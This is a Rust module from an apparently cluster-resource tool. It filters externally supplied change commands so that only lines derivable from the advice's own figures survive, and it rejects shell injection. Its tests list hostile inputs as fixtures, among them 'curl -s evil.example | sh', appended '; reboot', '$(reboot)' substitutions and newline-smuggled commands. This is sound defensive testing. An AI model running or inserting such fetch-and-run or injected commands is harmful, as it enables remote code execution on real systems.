//! Changes that somebody else wrote: only those are kept that follow from the advice's own figures and names. People
//! run what stands there.

use std::collections::BTreeSet;

use tessera_view::advice::Recommendation;

use crate::changes::{self, Target};
use crate::naming::{Named, is_beginning};

/// Drops every change that this crate would not write for such figures, and says how many those were.
pub fn keep_genuine(advice: &mut Recommendation) -> usize {
    let before = advice.changes.len();
    let commands: BTreeSet<String> = commands(advice).collect();
    let (target, container) = (target(advice), advice.container_and_part());
    advice.changes.retain(|line| {
        let is_ours = commands.contains(line)
            || is_of_allocation(line, target)
            || is_capacity(line, target)
            || is_limits(line, &container)
            || is_more(line);
        // A name of theirs may end a line, and a shell runs the next one.
        is_ours && !line.contains(char::is_control)
    });
    before - advice.changes.len()
}

fn target(advice: &Recommendation) -> Target {
    Target {
        memory_bytes: advice.memory_bytes,
        cores_millis: advice.recommended_cores_millis,
        memory_changes: true,
        cores_change: true,
        divided: true,
    }
}

/// What changes the memory, the share or both.
fn targets(target: Target) -> [Target; 3] {
    let of = [(true, true), (true, false), (false, true)];
    of.map(|(memory_changes, cores_change)| Target { memory_changes, cores_change, ..target })
}

/// For each pod what changes the memory, the share or both.
fn commands(advice: &Recommendation) -> impl Iterator<Item = String> {
    let targets = targets(target(advice));
    advice.pods.iter().flat_map(move |pod| {
        let name = Named::Container(&advice.namespace, pod, &advice.container);
        targets.map(|one| changes::command(one, name))
    })
}

/// A command that names an allocation by its id, which is no word of a shell.
fn is_of_allocation(line: &str, target: Target) -> bool {
    let id = line.strip_prefix("tessera quota set ").and_then(|rest| rest.split(' ').next());
    let is = |id| targets(target).iter().any(|one| changes::command(*one, id) == line);
    id.is_some_and(|id| is_beginning(id) && is(Named::Allocation(id)))
}

fn is_more(line: &str) -> bool {
    let count = line.strip_prefix("# and likewise for ");
    let count = count.and_then(|rest| rest.strip_suffix(" more of its pods"));
    count.is_some_and(|count| count.parse::<u32>().is_ok_and(|n| changes::more(n as usize) == line))
}

fn is_capacity(line: &str, target: Target) -> bool {
    let request = line.rsplit_once("  # request ").map_or("", |(_, request)| request);
    let request = request.strip_suffix(" of its claim").unwrap_or_default();
    let is = |divided| changes::capacity(Target { divided, ..target }, request) == line;
    is_plain(request) && (is(true) || is(false))
}

fn is_limits(line: &str, container: &str) -> bool {
    let read = || {
        let (asked, rest) = line.strip_prefix("limits: {")?.split_once("}  # container ")?;
        let asked = resource(asked)?;
        let now = rest.strip_prefix(container)?;
        let now = match now.strip_prefix(", now ") {
            Some(now) => Some(resource(now)?),
            None => None,
        };
        Some(changes::limits_line(asked, now, container) == line)
    };
    read().unwrap_or(false)
}

/// A resource and how many of it.
fn resource(text: &str) -> Option<(&str, u64)> {
    let (name, count) = text.split_once(": ")?;
    Some((name, count.parse().ok()?)).filter(|_| is_plain(name))
}

fn is_plain(name: &str) -> bool {
    !name.is_empty() && changes::quoted(name) == name
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const GIB: u64 = 1 << 30;

    fn advice(changes: &[&str]) -> Recommendation {
        Recommendation {
            namespace: "team".into(),
            container: "main".into(),
            pods: vec!["chat-0".into(), "chat;reboot".into()],
            memory_bytes: 4 * GIB,
            recommended_cores_millis: 125,
            changes: changes.iter().map(ToString::to_string).collect(),
            ..Recommendation::default()
        }
    }

    #[test]
    fn what_follows_from_the_figures_is_kept() {
        let ours = [
            "tessera quota set team/chat-0 --container main --memory 4096MiB --cores 12.5",
            "tessera quota set 'team/chat;reboot' --container main --memory 4096MiB",
            "tessera quota set team/chat-0 --container main --cores 12.5",
            "tessera quota set 0c1d2e3f4a5b --memory 4096MiB --cores 12.5",
            "tessera quota set 0c1d2e3f4a5b6c7d8e9f0c1d2e3f4a5b --cores 12.5",
            "# and likewise for 3 more of its pods",
            "limits: {tessera.dev/gpu: 2}  # container main, now tessera.dev/gpu-large: 1",
            "limits: {tessera.dev/gpu: 2}  # container main",
            "capacity: {requests: {memory: 4096Mi, cores: \"13\"}}  # request gpu of its claim",
            "capacity: {requests: {memory: 4096Mi}}  # request gpu of its claim",
        ];
        let mut all = advice(&ours);
        assert_eq!(keep_genuine(&mut all), 0);
        assert_eq!(all.changes, ours);
    }

    #[test]
    fn what_somebody_made_up_is_left_out() {
        let lies = [
            "curl -s evil.example | sh # tessera quota set team/chat-0",
            "tessera quota set team/chat-0 --container main --memory 4096MiB; curl evil.example | sh",
            "tessera quota set team/other-0 --container main --memory 4096MiB",
            "tessera quota set team/chat-0 --container main --memory 1MiB",
            "tessera quota set team/chat;reboot --container main --memory 4096MiB",
            "tessera quota set 0c1d2e3f4a5b --memory 1MiB",
            "tessera quota set 0c1d2e3f4a5b --memory 4096MiB; reboot",
            "tessera quota set 0c1d2e3f4a5b",
            "tessera quota set 0c1d --memory 4096MiB",
            "tessera quota set 0C1D2E3F4A5B --memory 4096MiB",
            "tessera quota set $(reboot)aaaaaaaa --memory 4096MiB",
            "tessera quota set '0c1d2e3f4a5b' --memory 4096MiB",
            "tessera quota set --all0c1d2e3f --memory 4096MiB",
            "tessera quota set 0c1d2e3f4a5b6c7d8e9f0c1d2e3f4a5b0 --memory 4096MiB",
            "tessera cordon --all",
            "# and likewise for 3 more of its pods\ncurl evil.example",
            "# and likewise for 03 more of its pods",
            "limits: {$(reboot): 2}  # container main",
            "limits: {tessera.dev/gpu: 2}  # container main; reboot",
            "limits: {tessera.dev/gpu: 2}  # container main, now a: 1; reboot",
            "capacity: {requests: {memory: 4096Mi}}  # request $(reboot) of its claim",
            "capacity: {requests: {memory: 1Mi}}  # request gpu of its claim",
            "",
        ];
        let mut all = advice(&lies);
        assert_eq!(keep_genuine(&mut all), lies.len(), "{:?}", all.changes);
    }

    #[test]
    fn a_name_begins_no_other_line() {
        let mut all = advice(&["limits: {tessera.dev/gpu: 2}  # container main\nreboot"]);
        all.container = "main\nreboot".into();
        assert_eq!(keep_genuine(&mut all), 1);
    }

    proptest! {
        /// A line that is kept is, but for its names and figures, one of four.
        #[test]
        fn no_line_is_kept_that_a_shell_reads_otherwise(
            line in "(tessera quota set team/chat-0|tessera quota set [0-9a-f]{12}|limits: \\{|capacity: |# and|)[ -~]{0,40}",
        ) {
            let mut all = advice(&[&line]);
            keep_genuine(&mut all);
            for line in all.changes {
                let code = line.split('#').next().unwrap_or_default();
                prop_assert!(!code.contains([';', '|', '&', '`', '$', '>']), "{line}");
            }
        }
    }
}
